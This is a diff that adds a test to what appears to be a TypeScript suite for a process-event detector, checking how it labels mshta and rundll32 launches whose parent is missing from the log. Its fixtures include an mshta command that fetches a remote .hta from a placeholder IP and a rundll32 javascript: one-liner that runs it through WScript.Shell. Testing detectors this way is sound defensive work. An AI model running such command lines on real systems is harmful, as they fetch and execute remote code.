@@ -140,6 +140,18 @@ describe("lineage", () => {
     expect(twice[0]?.related).toEqual([expect.objectContaining({ index: outer.record.index, role: "wrapper" })]);
   });
 
+  it("says of a parent that is not in the log nothing that its child says by itself", () => {
+    const inner = "mshta http://203.0.113.5/x.hta";
+    const child = (parentCommandLine: string, image: string) =>
+      aStart(0, "B", `${S32}mshta.exe`, inner, "A", { parent: { key: "id:A", image }, parentCommandLine });
+    expect(find([child(`cmd /c ${inner}`, `${S32}cmd.exe`)])).toHaveLength(1);
+    const script = `rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";new ActiveXObject("WScript.Shell").Run("${inner}")`;
+    expect(find([child(script, `${S32}rundll32.exe`)]).map(({ behaviour }) => behaviour)).toEqual([
+      "windows/mshta/remote-application",
+      "windows/rundll32/script",
+    ]);
+  });
+
   it("judges a parent that is not in the log by what its child's event says", () => {
     const child = aStart(0, "B", `${S32}cmd.exe`, "cmd.exe", "A", {
       parent: { key: "id:A", image: `${S32}mshta.exe` },
